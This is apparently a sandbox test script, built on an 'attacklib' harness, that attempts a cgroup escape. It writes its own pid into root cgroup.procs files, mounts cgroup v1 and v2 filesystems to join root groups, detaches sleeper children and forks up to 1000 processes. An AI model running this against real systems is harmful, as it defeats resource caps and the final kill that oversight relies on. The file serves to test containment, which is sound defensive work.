"""Attack: leave its cgroup, so that neither the caps nor the final kill reach it.

Looks for the cgroup file system (/sys/fs/cgroup), mounts its own (v1 pids and memory, and
cgroup2) to write its pid into a root cgroup.procs, reads /proc/self/cgroup. Then it starts
children that sleep (the host checks they are all in its cgroup) and forks until refused."""

import os
import time

from attacklib import attempt, info, play, report, try_syscall


def join_root(path: str) -> str:
    with open(path, "w") as handle:
        handle.write(str(os.getpid()))
    return f"wrote to {path}"


def attack() -> None:
    info("proc_self_cgroup", open("/proc/self/cgroup").read().splitlines())
    for path in ("/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/pids/cgroup.procs",
                 "/sys/fs/cgroup/memory/cgroup.procs", "/sys/fs/cgroup/unified/cgroup.procs"):  # fmt: skip
        attempt(f"join:{path}", lambda path=path: join_root(path))
    for label, fstype, options in (("v1_pids", "cgroup", "pids"), ("v1_memory", "cgroup", "memory"),
                                   ("v2", "cgroup2", None)):  # fmt: skip
        target = f"/tmp/{label}"
        os.makedirs(target, exist_ok=True)
        try_syscall(f"mount_{label}", "mount", "cgroup", target, fstype, 0, options)
        if os.path.ismount(target):
            attempt(
                f"join_mounted_{label}", lambda target=target: join_root(f"{target}/cgroup.procs")
            )
        else:
            report(f"join_mounted_{label}", "blocked", "not-mounted")
    # children that stay (the host looks at where they are), then fork until refused
    sleepers = 0
    for _ in range(4):
        if os.fork() == 0:
            os.setsid()
            time.sleep(3600)
            os._exit(0)
        sleepers += 1
    forked = 0
    while forked < 1000:
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(3600)
            os._exit(0)
        forked += 1
    info("forked_after_escape", {"sleepers": sleepers, "more": forked})


def on_request(number, request):
    if number == 1:
        attack()
    return None


play(name="cgroup_escape", on_request=on_request)
